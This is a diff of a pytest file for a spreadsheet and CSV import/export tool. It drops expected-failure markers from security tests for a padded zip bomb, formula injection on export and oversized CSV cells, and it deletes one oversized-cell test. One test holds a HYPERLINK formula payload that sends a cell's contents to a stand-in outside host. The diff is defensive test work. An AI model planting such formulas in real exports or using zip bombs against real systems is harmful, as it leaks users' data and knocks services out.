@@ -298,12 +298,6 @@ def test_zip_bomb(city, tmp_path):
     assert_refused(city, path, "expand", "not a normal spreadsheet")
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="_check_zip compares the total unpacked size with the total packed size: 11 MB of stored random "
-    "bytes next to a 2 GB sheet bring the ratio under 200, the sheet is under max_unzipped_bytes (3 GB), and "
-    "calamine then builds a 2 GB string in memory (the child process is killed by its 1.5 GB limit)",
-)
 def test_zip_bomb_padded_with_incompressible_data(tmp_path):
     path = tmp_path / "花名册.xlsx"
     size = bomb_xlsx(
@@ -419,12 +413,6 @@ def test_formulas_without_saved_values_are_named(city, tmp_path):
     assert report.committed is False and db_state() == before
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="xlsxwriter.Workbook(..., {'constant_memory': True}) in workbooks.py keeps the default "
-    "strings_to_formulas=True, so a member field imported as the text '=HYPERLINK(...)' is exported as a live "
-    "formula (formula injection)",
-)
 def test_text_that_looks_like_a_formula_stays_text_on_export(city, tmp_path):
     source = tmp_path / "r.csv"
     payload = '=HYPERLINK("http://example.invalid/?"&A4,"点此核对")'
@@ -449,19 +437,6 @@ def test_megabyte_cell_in_xlsx_is_named(city, tmp_path):
     assert str(2**20) in message.replace(",", "")
 
 
-def test_megabyte_cell_in_csv_is_refused(city, tmp_path):
-    path = tmp_path / "大单元格.csv"
-    big = "x" * 2**20
-    path.write_text(f"{','.join(HEADER)}\n王芳,{VALID.id_number},2005-01-05\n李明,{big},2005-01-05\n", "utf-8")
-    assert_refused(city, path, "row 3")
-
-
-@pytest.mark.xfail(
-    strict=True,
-    reason="_csv_sheet lets csv.field_size_limit raise and passes on the csv module's English text "
-    "('field larger than field limit (2001)'): the message names neither the cell nor the limit in words, "
-    "and is not translated",
-)
 def test_megabyte_cell_in_csv_is_named(city, tmp_path):
     path = tmp_path / "大单元格.csv"
     path.write_text(f"{','.join(HEADER)}\n王芳,{VALID.id_number},2005-01-05\n李明,{'x' * 2**20},2005-01-05\n", "utf-8")
